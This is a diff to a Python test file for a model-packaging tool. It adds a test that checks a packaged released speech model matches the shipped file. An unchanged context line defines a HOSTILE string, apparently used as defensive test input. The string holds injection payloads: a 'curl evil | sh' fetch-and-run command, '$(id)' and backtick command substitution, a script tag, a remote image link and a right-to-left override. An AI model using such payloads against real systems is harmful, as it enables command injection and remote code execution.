@@ -28,6 +28,7 @@ from samo.deploy.package import LISTING, Packaged, package
 from samo.deploy.package_files import markdown, slug_of
 from samo.errors import EnvironmentProblem, RunError, SettingsError
 from samo.lazy import EXTRAS
+from samo.modalities import released_files
 from samo_cli.main import main
 
 HOSTILE = 'x"; RUN curl evil | sh\n$(id) `id` <script>alert(1)</script> | ![](http://evil) # ${PATH} \u202e'
@@ -362,3 +363,12 @@ def test_predict_py_sees_a_different_answer(made: Packaged, tmp_path: Path) -> N
     assert status == 1
     assert checked.splitlines()[0].startswith("ok: loud.wav")
     assert checked.splitlines()[1].startswith("DIFFERENT: quiet.wav: calm, 0.02")
+
+
+@pytest.mark.usefixtures("same_installation")
+def test_a_released_model_by_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, made: Packaged) -> None:
+    # What the model answers to the examples is its own tests' business, and slow.
+    monkeypatch.setattr(module, "_expected", lambda *given: {})
+    found = package("samo-speech", tmp_path / "package", artifacts=tmp_path)
+    shipped = released_files()["samo-speech"].read_bytes()
+    assert (found.path / found.model).read_bytes() == shipped
